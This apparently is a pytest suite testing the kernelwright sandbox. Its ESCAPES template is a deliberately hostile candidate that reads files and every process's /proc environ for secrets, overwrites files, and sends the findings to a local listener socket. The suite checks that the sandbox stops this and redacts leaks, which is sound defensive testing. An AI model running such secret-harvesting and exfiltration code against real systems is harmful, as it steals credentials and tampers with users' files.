"""The sandbox through a whole `check`: escaping candidates change nothing outside, leave no process
behind (even when the CLI is killed), leak no secret into the verdict, and the verdict says which
isolation layers were active. The candidates are checked with the static scan off, so that the
operating system is what stops them."""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_sandbox import full_sandbox, gone_within, processes_with

from kernelwright.cli import main
from kernelwright.tools.check import children
from kernelwright.tools.check.verify import CheckOptions, verify_solution
from kernelwright.tools.sandbox import support
from kernelwright.tools.sandbox.policy import SandboxPolicy

from paths import CANDIDATES, PROBLEMS, ROOT, SOLUTIONS

SECRET = "sk-" + "kwcheck" + secrets.token_hex(12)
PROBLEM = PROBLEMS / "gelu_scale.py"
HONEST = (SOLUTIONS / "gelu_scale.py").read_text()
FAST = dict(device="cpu", trials=1, variants=False, static_resources=False, static_scan=False, timeout_s=120)

ESCAPES = '''
import os, socket
def _escape():
    found = []
    for path in {reads!r}:
        try:
            found.append(open(path).read())
        except OSError:
            pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            found.append(open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    for path in {writes!r}:
        try:
            with open(path, "w") as fh:
                fh.write("PLANTED")
        except OSError:
            pass
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
        s.sendall(" ".join(found).encode()[:1000])
    except OSError:
        pass
    leaked = [f for f in found if "{marker}" in f]
    if leaked:
        raise RuntimeError("leaked: " + leaked[0][:200])
'''


def escaping_candidate(tmp_path: Path, reads: list[Path], writes: list[Path], port: int) -> Path:
    body = ESCAPES.format(reads=[str(p) for p in reads], writes=[str(p) for p in writes], port=port, marker=SECRET[:10])
    source = HONEST.replace("    def forward(self, x: torch.Tensor) -> torch.Tensor:\n",
                            "    def forward(self, x: torch.Tensor) -> torch.Tensor:\n        _escape()\n")
    path = tmp_path / "escaping.py"
    path.write_text(body + "\n" + source)
    return path


@pytest.fixture(autouse=True)
def no_runtime_audit(monkeypatch):
    """The candidate's runtime audit (tools/check/audit.py) would refuse every escape below before
    the operating system sees it; these tests are about the OS layer, so the candidate's request
    turns the audit off (the parent writes the request before the child starts)."""
    real = children.start_child

    def start(args, *rest, **kwargs):
        if len(args) > 2 and args[1] == "candidate":
            request = Path(args[2])
            request.write_text(json.dumps({**json.loads(request.read_text()), "runtime_audit": False}))
        return real(args, *rest, **kwargs)

    monkeypatch.setattr(children, "start_child", start)


@pytest.fixture
def listener():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(5)
    sock.settimeout(1.0)
    yield sock
    sock.close()


@full_sandbox
def test_an_escaping_candidate_changes_nothing_outside_and_leaks_nothing(tmp_path, monkeypatch, listener):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    problem = tmp_path / "problems" / "gelu_scale.py"
    problem.parent.mkdir()
    problem.write_text(PROBLEM.read_text())
    home, other = tmp_path / "home", tmp_path / "user"
    home.mkdir(), other.mkdir()
    (other / "notes.txt").write_text(SECRET)
    candidate = escaping_candidate(tmp_path, reads=[other / "notes.txt", home / "memory.db"],
                                   writes=[problem, home / "memory.db", other / "planted.py", candidate_path := tmp_path / "escaping.py"],
                                   port=listener.getsockname()[1])
    before = candidate.read_text()
    result = verify_solution(problem, candidate, CheckOptions(home=home, **FAST))
    assert result.accepted, result.reasons  # every escape failed; the kernel itself is right
    assert problem.read_text() == PROBLEM.read_text() and candidate_path.read_text() == before
    assert not (home / "memory.db").exists() and not (other / "planted.py").exists()
    with pytest.raises(TimeoutError):
        listener.accept()
    assert SECRET not in json.dumps(result.to_dict())
    assert result.isolation["full"] and "network" in result.isolation["layers"]


@pytest.fixture
def degraded(monkeypatch):
    """No OS sandbox for this test (KERNELWRIGHT_BWRAP=off): what a machine without bubblewrap gets."""
    monkeypatch.setenv("KERNELWRIGHT_BWRAP", "off")
    support.probe.cache_clear()
    yield
    monkeypatch.delenv("KERNELWRIGHT_BWRAP")
    support.probe.cache_clear()


def test_a_secret_that_reaches_a_degraded_sandbox_is_redacted_from_the_verdict(tmp_path, monkeypatch, listener, degraded):
    monkeypatch.setenv("MY_SERVICE_TOKEN", SECRET)
    (tmp_path / "notes.txt").write_text(f"token={SECRET}")
    candidate = escaping_candidate(tmp_path, reads=[tmp_path / "notes.txt"], writes=[], port=listener.getsockname()[1])
    result = verify_solution(PROBLEM, candidate, CheckOptions(**FAST))
    assert not result.accepted and "leaked" in result.reasons[0].message
    assert "[REDACTED]" in result.reasons[0].message
    assert SECRET not in json.dumps(result.to_dict())
    assert not result.isolation["full"] and any(m.startswith("network") for m in result.isolation["missing"])


def kw(*args: str, env: dict[str, str]) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "kernelwright", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, cwd=ROOT, env=env)


@full_sandbox
def test_killing_the_cli_with_sigkill_leaves_no_process_of_the_check(tmp_path):
    env = {**os.environ, "TMPDIR": str(tmp_path)}  # the check's folder, and so its children's command lines
    cli = kw("check", str(PROBLEM), str(CANDIDATES / "gelu_scale" / "infinite_loop.py"), "--device", "cpu",
             "--home", str(tmp_path / "home"), "--timeout", "600", env=env)
    deadline = time.monotonic() + 120
    while not any("candidate" in Path(f"/proc/{pid}/cmdline").read_text(errors="replace") for pid in processes_with(str(tmp_path))
                  if Path(f"/proc/{pid}").exists()):
        assert time.monotonic() < deadline and cli.poll() is None, cli.stderr.read() if cli.poll() is not None else "no candidate child"
        time.sleep(0.2)
    time.sleep(3)  # the candidate is inside its endless forward now
    cli.send_signal(signal.SIGKILL)
    cli.wait()
    assert gone_within(str(tmp_path)), f"processes outlived the CLI: {processes_with(str(tmp_path))}"


def test_full_isolation_can_be_required_and_is_reported(tmp_path, capsys):
    base = [str(PROBLEM), str(SOLUTIONS / "gelu_scale.py"), "--device", "cpu", "--no-variants", "--trials", "1", "--json"]
    degraded = {**os.environ, "KERNELWRIGHT_BWRAP": "off"}
    refused = kw("check", *base, "--require-isolation", "--home", str(tmp_path / "refused"), env=degraded)
    out, err = refused.communicate(timeout=120)
    assert refused.returncode == 2
    assert len(err.strip().splitlines()) == 1 and "full isolation required" in err and "kernelwright doctor" in err
    assert json.loads(out)["error"] and not (tmp_path / "refused").exists()
    # The check that runs, in this process (kernelwright.cli.main, as the command calls it; a check
    # process pays ~7 s of CPU for its imports and sandbox zygotes first): with this machine's
    # sandbox, or, where bubblewrap is unusable, with none, as KERNELWRIGHT_BWRAP=off would leave it.
    assert main(["check", *base, "--home", str(tmp_path / "home")]) == 0, capsys.readouterr().err
    isolation = json.loads(capsys.readouterr().out)["isolation"]
    assert isolation["full"] is support.probe().usable
    assert set(isolation["limits"]) >= {"address_space", "cpu_s", "processes", "open_files", "file_size"}
    # The candidate's own limits, as its job set them (a warm worker's zygote itself runs without any).
    assert isolation["limits"]["cpu_s"] and isolation["limits"]["open_files"] and isolation["limits"]["core"] == 0


def test_a_bad_sandbox_config_is_refused_before_anything_runs(tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("sandbox:\n  memory_gigs: 4\n")
    proc = kw("run", str(PROBLEM), "--device", "cpu", "--config", str(config), "--home", str(tmp_path / "home"), env=dict(os.environ))
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 2 and "sandbox.memory_gigs" in err, err
    assert len(err.strip().splitlines()) == 1


def test_a_policy_carries_its_limits():
    assert SandboxPolicy(memory_gb=2).memory_bytes(64 * 2**30) == 2 * 2**30
    assert SandboxPolicy().memory_bytes(64 * 2**30) == 32 * 2**30


def test_doctor_says_what_this_machine_supports(tmp_path):
    proc = kw("doctor", "--json", "--home", str(tmp_path / "home"), env=dict(os.environ))
    out, err = proc.communicate(timeout=300)
    report = json.loads(out)
    assert report["sandboxed_child"].get("torch"), report["sandboxed_child"]  # torch imports inside the sandbox
    assert report["sandbox"]["full"] is support.probe().usable
    assert proc.returncode == (0 if support.probe().usable else 1)
    degraded = kw("doctor", "--json", "--home", str(tmp_path / "home"), env={**os.environ, "KERNELWRIGHT_BWRAP": "off"})
    out, _ = degraded.communicate(timeout=300)
    assert degraded.returncode == 1 and not json.loads(out)["sandbox"]["full"]
    assert not (tmp_path / "home").exists()
